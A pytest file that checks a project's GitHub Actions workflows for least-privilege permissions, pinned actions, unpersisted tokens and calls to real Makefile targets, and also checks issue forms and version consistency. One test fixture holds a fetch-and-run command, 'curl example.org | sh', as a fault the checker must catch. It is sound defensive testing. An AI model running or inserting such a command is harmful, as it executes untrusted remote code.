"""The files for the repository's host call what exists, pinned and with few rights; the version is stated once."""

import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from packaging.specifiers import SpecifierSet
from setuptools.config.pyprojecttoml import read_configuration

import blindtune
from checks import hosting
from support.builders import ROOT

GITHUB = ROOT / ".github"
WORKFLOWS = sorted((GITHUB / "workflows").glob("*.yml"))
FORMS = sorted((GITHUB / "ISSUE_TEMPLATE").glob("*.yml"))
TARGETS = hosting.list_targets((ROOT / "Makefile").read_text(encoding="utf-8"))
PROJECT = read_configuration(ROOT / "pyproject.toml")["project"]

GOOD = """\
permissions: {contents: read}
jobs:
  all:
    timeout-minutes: 5
    steps:
      - uses: actions/checkout@0123456789012345678901234567890123456789 # v1.2.3
        with: {persist-credentials: false}
      - run: make check test PYTHON=python
"""
FAULTS = {
    "permissions are not": ("contents: read", "contents: write"),
    "not pinned": ("@0123456789012345678901234567890123456789 # v1.2.3", "@v1"),
    "leaves its token": ("persist-credentials: false", "fetch-depth: 1"),
    "all: has permissions": ("timeout-minutes: 5", "timeout-minutes: 5\n    permissions: {contents: write}"),
    "all: has no limit": ("timeout-minutes: 5", "name: all"),
    "all: runs something else": ("make check", "curl example.org | sh; make check"),
    "all: make tset: there is no": ("make check test", "make check tset"),
}


def read_yaml(path: Path) -> dict[Any, Any]:
    """Return what a YAML file holds."""
    content: dict[Any, Any] = yaml.safe_load(path.read_text(encoding="utf-8"))
    return content


def list_faults(text: str, targets: set[str]) -> list[str]:
    """Return what is wrong with the text of a workflow."""
    return list(hosting.find_workflow_faults(text, yaml.safe_load(text), targets))


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_workflow_of_the_host_has_no_fault(path: Path) -> None:
    """Each step is pinned or a target that exists; the token may read the repository alone."""
    assert list_faults(path.read_text(encoding="utf-8"), TARGETS) == []


@pytest.mark.parametrize("expected", FAULTS)
def test_find_workflow_faults_names_each(expected: str) -> None:
    """Every sort of fault is found, and a good file has none."""
    assert list_faults(GOOD, {"check", "test"}) == []
    assert [fault for fault in list_faults(GOOD.replace(*FAULTS[expected]), {"check", "test"}) if expected in fault]


def test_workflows_of_the_host_run_all_that_a_change_needs() -> None:
    """The checks, the fast tests and all tests are run, on Pythons that are accepted."""
    jobs = [job for path in WORKFLOWS for job in read_yaml(path)["jobs"].values()]
    called = {
        target for job in jobs for step in job["steps"] for target in hosting.find_calls(step.get("run", "")) or ()
    }
    assert called >= {"check", "test-fast", "test"}
    accepted = SpecifierSet(PROJECT["requires-python"])
    text = "".join(path.read_text(encoding="utf-8") for path in WORKFLOWS)
    pythons = re.findall(r'"(3\.\d+)"', text)
    assert pythons
    assert all(accepted.contains(f"{version}.0") for version in pythons)


@pytest.mark.parametrize("path", list(hosting.read_documents(ROOT)), ids=lambda path: str(path.relative_to(ROOT)))
def test_document_names_targets_that_exist(path: Path) -> None:
    """A reader who types what a document says finds a target."""
    named = hosting.find_in_document(path.read_text(encoding="utf-8"))
    assert [f"line {number}: make {target}" for number, target in named if target not in TARGETS] == []


def test_find_in_document_reads_code_alone() -> None:
    """Targets are found in spans and blocks of code, with variables and comments, and not in prose."""
    text = "`make run PYTHON=python3` and make sure\n```sh\nmake a b   # both\npip install c\n```\n`make`\n"
    assert list(hosting.find_in_document(text)) == [(1, "run"), (3, "a"), (3, "b")]


@pytest.mark.parametrize("path", FORMS, ids=lambda path: path.name)
def test_issue_form_asks_each_question_once(path: Path) -> None:
    """A form has a name, a description, and questions with ids of their own and labels."""
    form = read_yaml(path)
    assert form["name"]
    assert form["description"]
    questions = [item for item in form["body"] if item["type"] != "markdown"]
    assert len({question["id"] for question in questions}) == len(questions) > 0
    assert all(question["attributes"]["label"] for question in questions)


def test_version_is_stated_once() -> None:
    """The package, its metadata, the citation and the newest entry of the changelog have one version."""
    assert PROJECT["version"] == blindtune.__version__
    assert read_yaml(ROOT / "CITATION.cff")["version"] == blindtune.__version__
    versions = re.findall(r"^## (\d+\.\d+\.\d+)", (ROOT / "CHANGELOG.md").read_text(encoding="utf-8"), re.MULTILINE)
    assert versions[0] == blindtune.__version__
